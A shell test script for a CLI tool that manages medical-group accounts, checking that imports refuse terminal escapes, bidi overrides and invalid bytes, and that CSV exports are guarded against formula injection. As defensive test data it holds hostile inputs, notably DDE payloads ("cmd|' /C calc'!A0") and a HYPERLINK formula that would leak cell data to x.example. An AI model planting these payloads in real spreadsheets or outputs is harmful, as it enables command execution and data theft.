#!/bin/sh
# Hostile text (issue 6). ESC sequences, backspaces, bidi overrides and
# isolates, C1 controls, DEL, tabs, NUL and invalid UTF-8 are refused in
# every cell of every imported table, in key files and configuration
# files, in init --name, approve --note and pay --means, and nothing is
# written; the messages never echo them raw. Data already stored with them (put there with the
# sqlite3 shell) is shown escaped by the text outputs (lists, check, the
# reports). Every text cell of every CSV output (exports, distributions,
# reports) is guarded against formula injection; CSV keeps the stored
# bytes as they are (a decision: it is data for spreadsheets).
. tests/cli/lib.sh
. tests/reliability/lib.sh
DB="$TMP/q.db"
"$BIN" --db "$DB" demo >/dev/null || { echo "FAIL demo"; exit 1; }
"$BIN" --db "$DB" distribute ACI-2025-AV --key ACI >/dev/null 2>&1

# The hostile strings, as printf formats (NUL apart: see below).
HOSTILE='\033[31mRED\033[0m
\033]0;owned\007
ab\010\010XY
\342\200\256gnp.exe
\342\201\247iso
\302\233C1
\177DEL
\377invalid
\300\257overlong
line\342\200\250sep
tab\there'
echo "$HOSTILE" >"$TMP/hostile"
NH=$(grep -c . "$TMP/hostile")

# raw FILE: whether FILE holds a byte that must never reach a terminal
# (C0 controls but LF, DEL, C1 and bidi controls as UTF-8, invalid bytes).
raw() {
	LC_ALL=C grep -aqP '[\x00-\x09\x0b-\x1f\x7f\xff\xc0\xc1]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\xd8\x9c' "$1"
}
# no_raw NAME FILE: a check that FILE holds no such byte.
no_raw() {
	if raw "$2"; then
		fail_msg "$1" "raw control bytes in the output: $(cat -v "$2" | head -c 300)"
	else
		ok_msg
	fi
}

# unguarded FILE: print the cells of a ';' CSV file that a spreadsheet
# would take for a formula: starting with = + - @ TAB or CR, but for
# plain numbers ("-12,50").
unguarded() {
	awk 'BEGIN { RS = "\r\n" }
	{
		line = $0; n = 0
		sub(/^\357\273\277/, "", line)
		while (length(line) > 0 || n == 0) {
			if (substr(line, 1, 1) == "\"") {
				cell = ""; i = 2
				while (i <= length(line)) {
					ch = substr(line, i, 1)
					if (ch == "\"" && substr(line, i + 1, 1) == "\"") { cell = cell "\""; i += 2; continue }
					if (ch == "\"") { i++; break }
					cell = cell ch; i++
				}
				line = substr(line, i)
			} else {
				p = index(line, ";")
				cell = p ? substr(line, 1, p - 1) : line
				line = p ? substr(line, p) : ""
			}
			n++
			if (cell ~ /^[=+@\t\r]/ || (cell ~ /^-/ && cell !~ /^-[0-9]+(,[0-9]+)?$/))
				print FILENAME ":" NR ": cell " n ": " cell
			if (substr(line, 1, 1) == ";") { line = substr(line, 2); if (line == "") { n++ } }
			else break
		}
	}' "$1"
}
# ---- every cell of every table ---------------------------------------------
# table header row: one valid row per table.
cat >"$TMP/tables" <<'EOF'
members|code,name,profession,status,joined,left,fte,rpps|NEW1,Jean Neuf,gp,associate,2025-01-01,2025-12-31,1,10001234565
posts|code,label,holder,fte,cost,start,end,funding|NEWPOST,Poste,MARTIN,1,1000,2025-01-01,2025-12-31,ACI:100
patients|code,gp,enrolled,left,birth_year,sex,ald,c2s|ZNEW1,MARTIN,2025-01-01,2025-06-30,1980,F,diabetes,0
receipts|source,kind,exercise,period_start,period_end,received,amount,reference,note|ACI,advance,2026,2026-01-01,2026-12-31,2026-02-01,100,R-NEW,une note
activities|member,date,kind,hours,note|MARTIN,2025-03-01,RCP,2,une note
EOF
before=$(fp "$DB")
runs=0
while IFS='|' read -r table header row; do
	# The valid row goes in: the refusals below are about the cell alone.
	printf '%s\n%s\n' "$header" "$row" >"$TMP/valid.csv"
	cp "$DB" "$TMP/valid.db"
	check "valid-$table" "$BIN" --db "$TMP/valid.db" import "$table" "$TMP/valid.csv"
	ncols=$(echo "$header" | awk -F, '{ print NF }')
	c=1
	while [ $c -le "$ncols" ]; do
		while IFS= read -r h; do
			# shellcheck disable=SC2059
			bad=$(printf "A$h")
			echo "$row" | awk -F, -v OFS=, -v c=$c -v v="$bad" '{ $c = v; print }' >"$TMP/cell"
			{ echo "$header"; cat "$TMP/cell"; } >"$TMP/bad.csv"
			"$BIN" --db "$DB" import "$table" "$TMP/bad.csv" >/dev/null 2>"$TMP/err"
			rc=$?
			if [ $rc != 65 ]; then
				fail_msg "import $table column $c \"$h\"" "exit $rc, want 65: $(cat -v "$TMP/err")"
			elif raw "$TMP/err"; then
				fail_msg "import $table column $c \"$h\"" "the message echoes it raw: $(cat -v "$TMP/err")"
			else
				ok_msg
			fi
		done <"$TMP/hostile"
		runs=$((runs + NH))
		c=$((c + 1))
	done
	# A NUL byte anywhere in a file.
	{ echo "$header"; printf 'A\000B'; echo "$row"; } >"$TMP/bad.csv"
	"$BIN" --db "$DB" import "$table" "$TMP/bad.csv" >/dev/null 2>"$TMP/err"
	check "import-$table-nul" grep -q "not valid UTF-8" "$TMP/err"
	# A hostile column name.
	printf '%s,x\033[2Jy\n%s,\n' "$header" "$row" >"$TMP/bad.csv"
	"$BIN" --db "$DB" import "$table" "$TMP/bad.csv" >/dev/null 2>"$TMP/err"
	rc=$?
	check "import-$table-bad-column-refused" test $rc = 65
	if [ "$table" = members ]; then
		check import-column-name-escaped \
			sh -c "! LC_ALL=C grep -aq \"\$(printf '\\033')\" '$TMP/err'"
	fi
done <"$TMP/tables"
check imports-changed-nothing test "$(fp "$DB")" = "$before"
echo "hostile: $runs hostile cells refused in imports"

# ---- key files ----------------------------------------------------------------
kn=0
for field in name description label; do
	while IFS= read -r h; do
		# shellcheck disable=SC2059
		bad=$(printf "A$h")
		case $field in
		name) sed "s|name = \"Equal shares\"|name = \"$bad\"|" "$ROOT/config/keys/equal.cfg" ;;
		description) sed "s|description = \"[^\"]*\"|description = \"$bad\"|" "$ROOT/config/keys/equal.cfg" ;;
		label) sed "s|label = \"Equal share\"|label = \"$bad\"|" "$ROOT/config/keys/equal.cfg" ;;
		esac >"$TMP/bad.cfg"
		if cmp -s "$TMP/bad.cfg" "$ROOT/config/keys/equal.cfg"; then
			fail_msg "key $field" "the test did not change the key file"; continue
		fi
		"$BIN" --db "$DB" key import "$TMP/bad.cfg" >/dev/null 2>"$TMP/err"
		rc=$?
		if [ $rc = 0 ] || [ $rc -ge 128 ]; then
			fail_msg "key $field \"$h\"" "exit $rc"
		elif raw "$TMP/err"; then
			fail_msg "key $field \"$h\"" "the message echoes it raw: $(cat -v "$TMP/err")"
		else
			ok_msg
		fi
	done <"$TMP/hostile"
	kn=$((kn + NH))
done
# The same through libconfig's own escapes.
sed 's|name = "Equal shares"|name = "A\\x1b[31mB"|' "$ROOT/config/keys/equal.cfg" >"$TMP/bad.cfg"
"$BIN" --db "$DB" key import "$TMP/bad.cfg" >/dev/null 2>"$TMP/err"
rc=$?
check key-libconfig-escape-refused test $rc != 0
no_raw key-libconfig-escape-message "$TMP/err"
# A configuration file's labels.
printf 'statuses = ( { code = "guest"; en = "Guest\033[2J"; fr = "Invit\342\200\256"; } );\n' >"$TMP/bad-config.cfg"
"$BIN" --db "$DB" --config "$TMP/bad-config.cfg" export members >/dev/null 2>"$TMP/err"
rc=$?
check config-label-refused test $rc = 78
no_raw config-label-message "$TMP/err"
check keys-changed-nothing test "$(fp "$DB")" = "$before"
echo "hostile: $kn hostile key file fields refused"

# ---- command-line text -------------------------------------------------------
while IFS= read -r h; do
	# shellcheck disable=SC2059
	bad=$(printf "A$h")
	rm -f "$TMP/n.db"
	"$BIN" --db "$TMP/n.db" init --name "$bad" >/dev/null 2>"$TMP/err"
	rc=$?
	check "init-name-refused $h" test $rc = 65
	no_raw "init-name-message $h" "$TMP/err"
	check "init-name-not-set $h" sh -c "[ -z \"\$(sqlite3 -readonly '$TMP/n.db' \"SELECT value FROM settings WHERE name = 'name'\" 2>/dev/null)\" ]"
	"$BIN" --db "$DB" approve D1 --date 2025-05-10 --note "$bad" >/dev/null 2>"$TMP/err"
	rc=$?
	check "approve-note-refused $h" test $rc = 65
	no_raw "approve-note-message $h" "$TMP/err"
done <"$TMP/hostile"
check approve-changed-nothing test "$(fp "$DB")" = "$before"
cp "$DB" "$TMP/paid.db"
"$BIN" --db "$TMP/paid.db" approve D1 --date 2025-05-10 >/dev/null
before_paid=$(fp "$TMP/paid.db")
while IFS= read -r h; do
	# shellcheck disable=SC2059
	bad=$(printf "A$h")
	"$BIN" --db "$TMP/paid.db" pay D1 --date 2025-05-20 --means "$bad" >/dev/null 2>"$TMP/err"
	rc=$?
	check "pay-means-refused $h" test $rc = 65
	no_raw "pay-means-message $h" "$TMP/err"
done <"$TMP/hostile"
check pay-changed-nothing test "$(fp "$TMP/paid.db")" = "$before_paid"

# Messages that quote what was typed: today they echo it raw.
E=$(printf '\033')
n=0; echoed=""
for what in receipt key date file database command; do
	case $what in
	receipt) "$BIN" --db "$DB" distribute "X${E}[2J" --key ACI ;;
	key) "$BIN" --db "$DB" distribute ACI-2025-AV --key "K${E}[2J" ;;
	date) "$BIN" --db "$DB" approve D1 --date "2025${E}[2J" ;;
	file) "$BIN" --db "$DB" import members "$TMP/none${E}[2J.csv" ;;
	database) "$BIN" --db "$TMP/none${E}[2J.db" check ;;
	command) "$BIN" "frob${E}[2J" ;;
	esac >/dev/null 2>"$TMP/err" </dev/null
	if LC_ALL=C grep -aq "$E" "$TMP/err"; then
		n=$((n + 1)); echoed="$echoed $what"
	fi
done
check messages-escape-arguments \
	test $n = 0

# ---- data already stored, shown escaped ---------------------------------------
S="$TMP/stored.db"
cp "$DB" "$S"
H="x'||char(27)||'[31mRED'||char(8)||'B'||char(8238)||'R'||char(155)||cast(x'ff' as text)||'y"
sqlite3 "$S" "UPDATE members SET name = '$H' WHERE code = 'MARTIN';
UPDATE receipts SET note = '$H', reference = 'REF' || '$H' WHERE reference = 'ACI-2025-AV';
UPDATE distribution_parts SET label = label || '$H' WHERE distribution_id = 1;
UPDATE distribution_lines SET label = label || '$H', recipient = recipient || '$H' WHERE distribution_id = 1;
UPDATE distributions SET status = 'approved', approved_on = '2025-05-10', approved_note = '$H' WHERE id = 1;
INSERT INTO keys (name) VALUES ('$H');
INSERT INTO key_versions (key_id, version, created, body) SELECT max(id), 1, '2026-01-01', (SELECT body FROM key_versions LIMIT 1) FROM keys;" ||
	echo "FAIL could not store hostile data"
for cmd in "distributions" "key list"; do
	# shellcheck disable=SC2086
	"$BIN" --db "$S" $cmd >"$TMP/out" 2>&1
	no_raw "stored: $cmd" "$TMP/out"
	check "stored: $cmd shows it escaped" grep -q 'x\\x1b\[31mRED\\x08B\\u202eR' "$TMP/out"
done
"$BIN" --db "$S" check >"$TMP/out" 2>&1
no_raw "stored: check" "$TMP/out"
"$BIN" --db "$S" show D1 >"$TMP/out" 2>&1
check show-escapes \
	sh -c "! LC_ALL=C grep -aq '$E' '$TMP/out'"
# The reports (src/report, when the command exists): text escaped, every
# CSV text cell guarded.
sqlite3 "$S" "UPDATE members SET name = '=HYPERLINK(\"http://x.example\")' WHERE code = 'LECLERC';
UPDATE posts SET label = '$H'; UPDATE settings SET value = '@$H' WHERE name = 'name';"
"$BIN" --db "$S" pay D1 --date 2025-05-20 --means virement >/dev/null 2>&1
reports=0
for cmd in "statement --all --year 2025" "attestation --all --year 2025" "summary --year 2025" \
           "posts --year 2025" "expected --year 2025" "journal --year 2025"; do
	name=${cmd%% *}
	"$BIN" --help | grep -q "^  $name " || continue
	for f in text csv; do
		# shellcheck disable=SC2086
		"$BIN" --db "$S" $cmd --format $f >"$TMP/report.$f" 2>&1 || {
			fail_msg "report $name --format $f" "failed: $(head -c 300 "$TMP/report.$f")"; continue; }
		reports=$((reports + 1))
		if [ $f = text ]; then
			no_raw "report $name (text)" "$TMP/report.$f"
		else
			u=$(unguarded "$TMP/report.$f")
			if [ -n "$u" ]; then fail_msg "report $name (csv) formula guard" "$u"; else ok_msg; fi
		fi
	done
done
echo "hostile: $reports report outputs checked with stored hostile text"

# CSV outputs keep the bytes as stored (checked here so that a change is
# deliberate): a spreadsheet shows them as characters.
"$BIN" --db "$S" export members >"$TMP/out"
check stored-export-verbatim sh -c "LC_ALL=C grep -aq 'x${E}\\[31mRED' '$TMP/out'"

# ---- formula injection: every text cell of every CSV output ----------------------
F="$TMP/formula.db"
cp "$DB" "$F"
cat >"$TMP/fm.csv" <<'EOF'
code,name,profession,status,joined,fte
FM1,"=HYPERLINK(""http://x.example/?""&A1,""clic"")",gp,associate,2025-01-01,1
FM2,+33 6 12 34 56 78,nurse,associate,2025-01-01,1
FM3,-2+3+cmd|' /C calc'!A0,nurse,associate,2025-01-01,1
FM4,@SUM(1+1)*cmd|' /C calc'!A0,nurse,associate,2025-01-01,1
EOF
check formula-members-imported "$BIN" --db "$F" import members "$TMP/fm.csv"
cat >"$TMP/fr.csv" <<'EOF'
source,kind,exercise,period_start,period_end,received,amount,reference,note
ACI,advance,=2026,2026-01-01,2026-12-31,2026-02-01,100,=R1,=1+1
ACI,advance,+2026,2026-01-01,2026-12-31,2026-02-01,-100,@R2,-1+1
EOF
check formula-receipts-imported "$BIN" --db "$F" import receipts "$TMP/fr.csv"
printf 'code,label,fte,cost,start\nFP1,=cmd,1,10,2025-01-01\n' >"$TMP/fp.csv"
check formula-posts-imported "$BIN" --db "$F" import posts "$TMP/fp.csv"
printf 'member,date,kind,hours,note\nFM1,2025-03-01,RCP,2,=1+1\nFM2,2025-03-02,RCP,2,"\t=1+1"\n' >"$TMP/fa.csv"
check formula-activities-imported "$BIN" --db "$F" import activities "$TMP/fa.csv"
# Codes cannot start with a sign when imported: put some there directly.
sqlite3 "$F" "INSERT INTO professions (code, grp) VALUES ('=prof', 'medical');
INSERT INTO members (code, name, profession, status, joined, fte) VALUES ('=M', '@name', '=prof', '+st', '2025-01-01', 100);
INSERT INTO patients (code, gp_id, enrolled, birth_year, sex, ald, c2s) VALUES ('=P', (SELECT id FROM members WHERE code = '=M'), '2025-01-01', 1980, 'F', '-ald', 0);
INSERT INTO posts (code, label, holder_id, fte, yearly_cost, start_on) VALUES ('@P', '+L', (SELECT id FROM members WHERE code = '=M'), 100, 0, '2025-01-01');
INSERT INTO post_funding (post_id, source, share_bp, start_on) VALUES ((SELECT id FROM posts WHERE code = '@P'), '=src', 10000, '2025-01-01');
INSERT INTO receipts (source, kind, exercise, period_start, period_end, received, amount) VALUES ('=S', '-K', '@E', '2025-01-01', '2025-12-31', '2025-02-01', 1);
INSERT INTO activities (member_id, day, kind, hours, note) VALUES ((SELECT id FROM members WHERE code = '=M'), '2025-03-01', '+k', 100, '@n');"
sed -e 's/name = "Equal shares"/name = "=Formula"/' -e 's/label = "Equal share"/label = "=1+1"/' \
	"$ROOT/config/keys/equal.cfg" >"$TMP/fk.cfg"
check formula-key-imported "$BIN" --db "$F" key import "$TMP/fk.cfg"
"$BIN" --db "$F" distribute ACI-2025-AV --key "=Formula" >/dev/null 2>&1
id=$(sqlite3 -readonly "$F" "SELECT max(id) FROM distributions;")
sqlite3 "$F" "UPDATE distribution_lines SET recipient = '=' || recipient WHERE distribution_id = $id;"

cells=0
for t in members posts patients receipts activities; do
	"$BIN" --db "$F" export "$t" --out "$TMP/$t.csv" || fail_msg "export $t" "failed"
	cells=$((cells + $(awk 'BEGIN { RS = "\r\n" } { n += gsub(/;/, ";") + 1 } END { print n }' "$TMP/$t.csv")))
done
"$BIN" --db "$F" show "D$id" --format csv >"$TMP/show.csv" 2>/dev/null
"$BIN" --db "$F" distribute ACI-2025-AV --key "=Formula" --dry-run --format csv >"$TMP/dist.csv" 2>/dev/null
"$BIN" --db "$F" compare ACI-2025-AV --key "=Formula" --key ACI --format csv >"$TMP/compare.csv" 2>/dev/null
for f in members posts patients receipts activities show dist compare; do
	check "csv-$f-not-empty" test -s "$TMP/$f.csv"
	u=$(unguarded "$TMP/$f.csv")
	if [ -n "$u" ]; then
		fail_msg "formula guard in $f" "$u"
	else
		ok_msg
	fi
done
check formula-payload-kept sh -c "grep -q \"'=HYPERLINK\" '$TMP/members.csv'"
echo "hostile: $cells cells of 5 exports and 3 CSV reports checked for the formula guard"
rel_finish
